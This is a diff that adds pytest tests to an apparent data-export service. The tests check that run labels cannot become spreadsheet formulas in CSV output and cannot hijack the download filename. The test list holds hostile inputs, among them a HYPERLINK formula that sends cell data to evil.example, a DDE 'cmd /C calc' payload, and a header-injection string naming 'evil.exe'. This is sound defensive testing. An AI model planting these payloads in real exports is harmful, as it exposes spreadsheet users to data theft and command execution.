@@ -75,3 +75,46 @@ def test_numbers_read_back_exactly_and_no_digit_is_made_up(client, precision):
         assert (
             max(len(cell.split("e")[0].strip("-0.").replace(".", "")) for cell in cells) <= digits
         )
+
+
+ESCAPES = [
+    "=1+1",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    "＝1+1",
+    '=HYPERLINK("http://evil.example?"&A1,"here")',
+    "=cmd|' /C calc'!A0",
+    "Adam;=1+1",
+    "Adam\t@x",
+    "Adam\r\n-1",
+    '";=1',
+]
+
+
+@pytest.mark.parametrize("label", ESCAPES)
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_a_label_is_a_formula_whatever_parts_cells(client, label, delimiter):
+    """As the standard reader parts cells: by commas, or as spreadsheets of other languages do."""
+    text = asked(client, "text/csv", runs=[{**RUNS[0], "label": label}]).text
+    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+    for cell in (cell for row in rows for cell in row):
+        is_number = cell.lstrip("+-")[:1].isdigit() and delimiter == ","
+        assert is_number or cell.lstrip(' "')[:1] not in [*"=+-@＝＋－＠\t\r\n"] or not cell
+
+
+@pytest.mark.parametrize("label", ["Adam", "α = 0.1, β₁ = 0.9", "a-b", "мой прогон", "x=1;y=2"])
+def test_other_labels_and_negative_numbers_stay_as_they_are(client, label):
+    rows = table(client, runs=[{**RUNS[0], "label": label}], starts=[[-1.5, -1]])
+    assert {row["label"] for row in rows} == {label}
+    assert rows[0]["x"] == "-1.5"
+
+
+def test_a_table_is_saved_under_a_name_of_ours(client):
+    for media_type, name in (("text/csv", "csv"), ("application/x-npz", "npz")):
+        told = asked(client, media_type, runs=[{**RUNS[0], "label": 'x"; filename="evil.exe'}])
+        assert told.headers["content-disposition"] == f'attachment; filename="trajectories.{name}"'
